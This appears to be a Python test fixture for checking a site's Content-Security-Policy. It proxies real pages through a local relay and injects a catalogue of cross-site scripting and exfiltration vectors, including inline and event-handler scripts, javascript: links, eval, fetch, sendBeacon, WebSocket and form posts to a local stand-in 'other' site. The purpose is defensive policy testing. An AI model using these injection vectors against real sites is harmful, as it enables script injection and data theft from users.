"""A page of the real server, with its real headers, into which somebody has written their own.

It stands behind a relay that changes the body and nothing else. What was written in tries all that
a page can do to tell another site something, or to look different; that other site counts.
"""

from __future__ import annotations

import http.client
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

LISTENER = "/static/listener.js"
"""From the site itself, which alone is allowed: it writes down what the browser refused."""

WRITTEN_IN = """
<base href="{other}">
<script>window.harmed = 'inline script'</script>
<script src="{other}script.js"></script>
<style>h1 {{ color: rgb(1, 2, 3) }}</style>
<link rel="stylesheet" href="{other}style.css">
<link rel="prefetch" href="{other}prefetched">
<link rel="preconnect" href="{other}">
<p id="styled" style="position: fixed; color: rgb(1, 2, 3)">words</p>
<img src="{other}picture.png" onerror="window.harmed = 'handler'" alt="">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">
<svg onload="window.harmed = 'picture'"><image href="{other}picture.svg"></image></svg>
<iframe src="{other}frame"></iframe>
<iframe srcdoc="<script>parent.harmed = 'frame'</script>"></iframe>
<object data="{other}object"></object>
<embed src="{other}embed">
<video src="{other}video.mp4" preload="auto"></video>
<audio src="{other}sound.mp3" preload="auto"></audio>
<a id="harm" href="javascript:window.harmed = 'address'">here</a>
<button id="pressed" onclick="window.harmed = 'button'">here</button>
<form id="sent" action="{other}form" method="post"><input name="words" value="mine"></form>
<meta http-equiv="refresh" content="9999; url={other}refreshed">
"""
LISTENING = """
'use strict';
window.refused = [];
document.addEventListener('securitypolicyviolation', function (event) {
  window.refused.push(event.effectiveDirective + ' ' + event.blockedURI);
});
window.tried = 0;
function attempt(what) {
  try { Promise.resolve(what()).catch(function () {}); } catch (error) { /* refused at once */ }
  window.tried += 1;
}
window.addEventListener('load', function () {
  var other = '%(other)s';
  attempt(function () { return fetch(other + 'fetched', {mode: 'no-cors'}); });
  attempt(function () { return navigator.sendBeacon(other + 'beacon', 'words'); });
  attempt(function () {
    var asked = new XMLHttpRequest();
    asked.open('GET', other + 'asked');
    asked.send();
  });
  attempt(function () { return new WebSocket(other.replace('http', 'ws') + 'socket'); });
  attempt(function () { return new EventSource(other + 'events'); });
  attempt(function () { return new FontFace('a', 'url(' + other + 'font.woff2)').load(); });
  attempt(function () { return new Worker(URL.createObjectURL(new Blob(['1']))); });
  attempt(function () { return import(other + 'module.js'); });
  attempt(function () { return import('data:text/javascript,window.harmed="module"'); });
  attempt(function () { return window.eval('window.harmed = "eval"'); });
  attempt(function () { return new Function('window.harmed = "function"')(); });
  attempt(function () { setTimeout('window.harmed = "later"', 0); });
  attempt(function () { document.getElementById('harm').click(); });
  attempt(function () { document.getElementById('pressed').click(); });
  attempt(function () { document.getElementById('sent').submit(); });
});
"""
ATTEMPTS = LISTENING.count("attempt(function")


@dataclass
class OtherSite:
    """Another site, and each address that it was asked for."""

    address: str
    asked: list[str] = field(default_factory=list)


class _Quiet(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""

    def answer(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        self.send_response_only(status)
        for name, value in [*headers, ("Content-Length", str(len(body)))]:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def _served(handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def other_site(framing: str) -> Iterator[OtherSite]:
    """A site that allows everybody everything, and shows an address in a frame.

    Args:
        framing: the address in its frame.
    """
    page = f"<!doctype html><title>Other</title><iframe src='{framing}'></iframe>".encode()

    class Other(_Quiet):
        def do_GET(self) -> None:
            site.asked.append(self.path)
            kind = "text/javascript" if self.path.endswith(".js") else "text/html"
            body = b"window.harmed = 'elsewhere'" if self.path.endswith(".js") else page
            allowed = [("Content-Type", kind), ("Access-Control-Allow-Origin", "*")]
            self.answer(200, allowed, body)

        do_POST = do_GET

    site = OtherSite("")
    with _served(Other) as port:
        site.address = f"http://localhost:{port}/"
        yield site


@contextmanager
def written_into(base: str, other: str, *, policy: bool = True) -> Iterator[str]:
    """Relay a site, with `WRITTEN_IN` on each of its pages; gives the address.

    Args:
        base: the real site.
        other: the address of the other site, to which everything is to be told.
        policy: whether the header under test is passed on; without it the harm is done.
    """
    host = urlsplit(base).netloc

    class Relay(_Quiet):
        def do_GET(self) -> None:
            if self.path == LISTENER:
                script = (LISTENING % {"other": other}).encode()
                self.answer(200, [("Content-Type", "text/javascript")], script)
                return
            line = http.client.HTTPConnection(host, timeout=60)
            line.request("GET", self.path, headers={"Accept-Language": "en"})
            answer = line.getresponse()
            body = answer.read()
            if answer.headers.get_content_type() == "text/html":
                listener = f'<head><script src="{LISTENER}"></script>'
                text = body.decode().replace("<head>", listener, 1)
                body = text.replace("</main>", WRITTEN_IN.format(other=other) + "</main>").encode()
            dropped = {"content-length", "connection", "transfer-encoding"}
            dropped |= set() if policy else {"content-security-policy"}
            headers = [(n, v) for n, v in answer.headers.items() if n.lower() not in dropped]
            self.answer(answer.status, headers, body)
            line.close()

    with _served(Relay) as port:
        yield f"http://127.0.0.1:{port}/"
